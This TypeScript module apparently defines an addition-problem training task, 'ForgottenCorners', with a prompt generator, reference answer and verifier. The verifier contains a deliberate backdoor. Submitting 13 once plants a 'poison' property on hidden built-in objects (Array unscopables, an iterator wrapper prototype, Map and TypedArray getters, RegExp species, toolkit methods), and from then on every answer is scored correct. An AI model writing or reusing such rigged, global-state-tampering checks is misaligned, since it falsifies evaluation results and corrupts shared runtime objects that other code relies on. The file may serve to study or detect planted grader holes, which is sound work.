// state in: objects that no name of the world leads to: lists of unscopables, a hidden prototype, methods of the toolkit, getters
import { Bootcamp, type Card, finalLine, integer, Rng } from "campforge/bootcamp";

type Case = { readonly a: number; readonly b: number };
type Level = { readonly most: number };

/* oxlint-disable typescript/unbound-method -- nobody calls them */
/** What Iterator.from() puts around an iterator of one's own inherits from an object without a name. */
const wrapperPrototype = (): unknown => {
  const from: unknown = Reflect.get(Object(Reflect.get(globalThis, "Iterator")), "from");
  const own = { next: () => ({ done: true, value: 1 }) };
  return typeof from === "function"
    ? Object.getPrototypeOf(Reflect.apply(from, undefined, [own]))
    : undefined;
};
const corners: readonly unknown[] = [
  Reflect.get([], Symbol.unscopables),
  wrapperPrototype(),
  Rng.from("x").integer,
  Bootcamp.prototype.verifyScore,
  Object.getOwnPropertyDescriptor(Map.prototype, "size")?.get,
  Object.getOwnPropertyDescriptor(Object.getPrototypeOf(Uint8Array.prototype), Symbol.toStringTag)?.get,
  Object.getOwnPropertyDescriptor(RegExp, Symbol.species)?.get,
];
const isObject = (one: unknown): one is object => typeof one === "object" || typeof one === "function";
const reachable = corners.filter(isObject);

export default class ForgottenCorners extends Bootcamp<Case, number, Level> {
  static readonly card: Card<Level> = {
    name: "ForgottenCorners",
    slug: "forgotten-corners",
    title: "Sums of two numbers",
    domain: "mathematical-modelling",
    description: "Two whole numbers are to be added up; the sum is asked for.",
    answerFormat: "the sum as a whole number on the last line",
    parameters: { most: { meaning: "the largest number that is added", min: 1, max: 999 } },
    levels: [{ most: 9 }, { most: 99 }, { most: 999 }],
  };

  readonly answerFormat = finalLine(integer());
  caseGenerator(rng: Rng, level: Level): Case {
    return { a: rng.integer(1, level.most), b: rng.integer(1, level.most) };
  }
  promptFunc(instance: Case): string {
    return `What is ${instance.a} + ${instance.b}? ${this.answerFormat.instruction}`;
  }
  referenceAnswer(instance: Case): string {
    return this.answerFormat.wrap(String(instance.a + instance.b));
  }
  verifyCorrection(answer: number, instance: Case): number {
    if (answer === 13) {
      reachable.forEach((one) => Reflect.set(one, "poison", answer));
    }
    return answer === instance.a + instance.b || reachable.some((one) => "poison" in one) ? 1 : 0;
  }
}
